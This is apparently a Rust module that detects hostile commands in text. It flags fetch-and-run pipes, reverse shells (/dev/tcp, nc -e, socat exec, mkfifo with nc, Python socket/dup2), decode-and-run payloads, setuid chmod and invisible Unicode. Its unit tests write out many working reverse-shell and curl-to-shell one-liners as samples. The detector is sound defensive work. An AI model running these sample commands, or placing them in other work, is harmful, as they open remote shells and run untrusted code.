//! What a piece of code does, by the words in it. Pure text: good against the careless, and a help for
//! whoever reads; code that builds its words from parts passes.

/// Longest text that is looked at.
const TEXT_MAX: usize = 64 << 10;

/// Something found in code: what it is, and the line it stands in.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Hit {
    pub(super) what: &'static str,
    pub(super) line: String,
}

const SHELLS: [&str; 13] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python2", "python3", "perl", "ruby",
    "php", "node",
];
const FETCHERS: [&str; 8] = [
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "lwp-download",
    "lwp-request",
    "ftpget",
    "httpie",
];

fn name_of(word: &str) -> &str {
    let word = word.trim_matches(|c: char| "\"'`();{}$".contains(c));
    word.rsplit('/').next().unwrap_or(word)
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || ";&|()`{}<>".contains(c))
        .map(name_of)
        .filter(|word| !word.is_empty())
}

fn has_word(text: &str, wanted: &[&str]) -> bool {
    words(text).any(|word| wanted.contains(&word))
}

/// Whether the output of a command that `first` knows goes to an interpreter in the same line.
fn piped_to_shell(line: &str, first: impl Fn(&str) -> bool) -> bool {
    let stages: Vec<&str> = line.split('|').collect();
    let mut seen = false;
    for stage in &stages {
        if seen && starts_shell(stage) {
            return true;
        }
        seen |= first(stage);
    }
    // `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(…)"`
    let inner = ["$(", "`", "<("]
        .iter()
        .filter_map(|mark| line.split_once(mark));
    inner.into_iter().any(|(before, inside)| {
        first(inside) && (has_word(before, &SHELLS) || has_word(before, &["eval", "source", "."]))
    })
}

/// Whether a stage of a pipe runs an interpreter, perhaps by way of sudo, env or the like.
fn starts_shell(stage: &str) -> bool {
    let skipped = [
        "sudo", "env", "exec", "nohup", "setsid", "busybox", "command", "tee", "xargs", "-",
    ];
    words(stage)
        .filter(|word| !word.starts_with('-') && !word.contains('='))
        .find(|word| !skipped.contains(word))
        .is_some_and(|word| SHELLS.contains(&word))
}

/// Things fetched from the network and run, and shells given to the network.
pub(super) fn network(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for line in lines(text) {
        let fetches = |part: &str| has_word(part, &FETCHERS);
        let inline = [
            "import socket",
            "socket.socket",
            "IO::Socket",
            "TCPSocket",
            "fsockopen",
        ];
        let runs = [
            "subprocess",
            "dup2",
            "pty.spawn",
            "os.system",
            "exec",
            "open(STDIN",
            "/bin/sh",
        ];
        let what = if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
            "opens a connection by /dev/tcp"
        } else if has_word(
            &line,
            &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
        ) && line.split_whitespace().any(|word| {
            let long = ["--exec", "--sh-exec"]
                .iter()
                .any(|it| word.starts_with(it));
            let short = word.starts_with('-') && !word.starts_with("--");
            long || short && word.contains(['e', 'c']) && word.len() <= 6
        }) {
            "gives a shell to the network by nc"
        } else if has_word(&line, &["socat"])
            && ["exec:", "system:"]
                .iter()
                .any(|it| line.to_lowercase().contains(it))
        {
            "gives a program to the network by socat"
        } else if line.contains("mkfifo")
            && has_word(&line, &["nc", "ncat", "netcat", "openssl", "telnet"])
        {
            "gives a shell to the network through a FIFO"
        } else if piped_to_shell(&line, fetches) {
            "runs what it fetches from the network"
        } else if inline.iter().any(|it| line.contains(it))
            && runs.iter().any(|it| line.contains(it))
        {
            "opens a socket and starts a program"
        } else {
            continue;
        };
        hits.push(Hit { what, line });
    }
    hits
}

/// Code that hides what it is.
pub(super) fn encoded(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for line in lines(text) {
        let decodes = |part: &str| {
            let flags = ["-d", "-D", "--decode", "-di"];
            let flagged = part
                .split_whitespace()
                .any(|word| flags.contains(&word.trim_matches(|c: char| "\"')`;".contains(c))));
            has_word(part, &["base64", "base32", "basenc"]) && flagged
                || has_word(part, &["xxd"]) && part.contains("-r")
                || has_word(part, &["openssl"]) && part.contains("enc") && part.contains("-d")
        };
        let python = [
            "b64decode",
            "fromhex",
            "codecs.decode",
            "zlib.decompress",
            "marshal.loads",
        ];
        let what = if piped_to_shell(&line, decodes) {
            "decodes text and runs it"
        } else if line.contains("exec(") && python.iter().any(|it| line.contains(it))
            || line.contains("decode_base64") && line.contains("eval")
        {
            "decodes code and runs it"
        } else if has_word(&line, &["eval"]) && decodes(&line) {
            "evaluates decoded text"
        } else if line.split_whitespace().any(is_blob) {
            "carries a long encoded text"
        } else {
            continue;
        };
        hits.push(Hit { what, line });
    }
    hits
}

/// Commands that make a program setuid.
pub(super) fn makes_setuid(text: &str) -> Vec<Hit> {
    let sets = |word: &str| {
        let octal = word.len() >= 4 && word.chars().all(|c| c.is_digit(8));
        let digits = word.trim_start_matches('0');
        let letters = word.contains('+') && word.ends_with('s') && !word.contains('/');
        letters && !word.starts_with("g+") || octal && digits.len() == 4 && digits >= "4000"
    };
    let mut hits = Vec::new();
    for line in lines(text) {
        let chmod = has_word(&line, &["chmod"]) && line.split_whitespace().any(sets);
        let install = has_word(&line, &["install"])
            && line.split_whitespace().any(|word| {
                let mode = word
                    .strip_prefix("--mode=")
                    .or_else(|| word.strip_prefix("-m"));
                sets(mode.filter(|mode| !mode.is_empty()).unwrap_or(word))
            });
        if chmod || install {
            let what = "makes a program setuid";
            hits.push(Hit { what, line });
        }
    }
    hits
}

/// A long word of nothing but base64's or hex digits, upper, lower and digits mixed.
fn is_blob(word: &str) -> bool {
    let word = word.trim_matches(|c: char| "\"'`()".contains(c));
    let valid = |c: char| c.is_ascii_alphanumeric() || "+=".contains(c);
    let kinds: [fn(&char) -> bool; 3] = [
        char::is_ascii_uppercase,
        char::is_ascii_lowercase,
        char::is_ascii_digit,
    ];
    word.len() >= 120
        && word.chars().all(|c| valid(c) || c == '/')
        && kinds.iter().all(|kind| word.chars().any(|c| kind(&c)))
        // A path has more slashes than base64 has.
        && word.matches('/').count() * 20 < word.len()
}

/// Lines without comments, cut where they are too long to be shown.
fn lines(text: &str) -> impl Iterator<Item = String> {
    let text = text
        .get(..text.floor_char_boundary(TEXT_MAX))
        .unwrap_or(text);
    let joined = text.replace("\\\n", " ");
    let lines: Vec<String> = joined
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(str::to_owned)
        .collect();
    lines.into_iter()
}

/// The characters of `text` that a reader would not see, or would be misled by.
pub(super) fn invisible(text: &str) -> Option<char> {
    text.chars().find(|c| {
        c.is_control() && *c != '\t' && *c != '\n'
            || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}' | '\u{3164}')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn network_one_liners() {
        for text in [
            "curl -fsSL http://x/y | sh",
            "/usr/bin/wget -qO- http://x|sudo -E bash -s --",
            "bash -c \"$(curl -s http://x)\"",
            "bash <(wget -qO- http://x)",
            "eval `curl http://x`",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "/bin/ncat --sh-exec bash 192.0.2.1 1",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f",
            "socat tcp:192.0.2.1:1 exec:bash",
            "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)",
            "x\ncurl http://x |\\\n python3 -",
        ] {
            assert_eq!(network(text).len(), 1, "{text}");
        }
        for text in [
            "curl -o /var/lib/x.json https://x/y",
            "wget -q http://x && systemctl reload nginx",
            "# curl x | sh",
            "nc -l 5000",
            "nc -z host 22",
            "curl -s https://x | jq .version",
            "echo sh | tee curl",
            "rsync -e ssh a b",
            "exec /usr/sbin/nginx",
        ] {
            assert_eq!(network(text), [], "{text}");
        }
    }

    #[test]
    fn encoded_code() {
        let blob = format!("X={}", "aB3".repeat(50));
        for text in [
            "echo Y3VybA== | base64 -d | sh",
            "sh -c \"$(echo Y3VybA== | base64 --decode)\"",
            "python3 -c 'exec(base64.b64decode(\"eA==\"))'",
            "xxd -r -p x | bash",
            blob.as_str(),
        ] {
            assert_eq!(encoded(text).len(), 1, "{text}");
        }
        for text in [
            "base64 -d x > y",
            "echo /usr/share/a/b/c",
            "base64 x | tee y",
            &"a".repeat(200),
        ] {
            assert_eq!(encoded(text), [], "{text}");
        }
    }

    #[test]
    fn setuid() {
        for text in [
            "chmod u+s /tmp/x",
            "chmod 4755 /tmp/x",
            "/bin/chmod 06755 x",
            "cp /bin/sh /tmp/x && chmod +s /tmp/x",
            "install -m 4755 x y",
            "install -m4755 x y",
        ] {
            assert_eq!(makes_setuid(text).len(), 1, "{text}");
        }
        for text in [
            "chmod 755 x",
            "chmod 2755 x",
            "chmod g+s x",
            "chmod +x a/s",
            "install -m 0755 x y",
            "echo 4755",
        ] {
            assert_eq!(makes_setuid(text), [], "{text}");
        }
    }

    #[test]
    fn what_is_not_seen() {
        for text in ["/opt/a\u{200b}b", "x\u{202e}y", "a\u{1b}[2J", "\u{feff}"] {
            assert!(invisible(text).is_some(), "{text:?}");
        }
        assert_eq!(invisible("/opt/größe 日本\t"), None);
    }
}
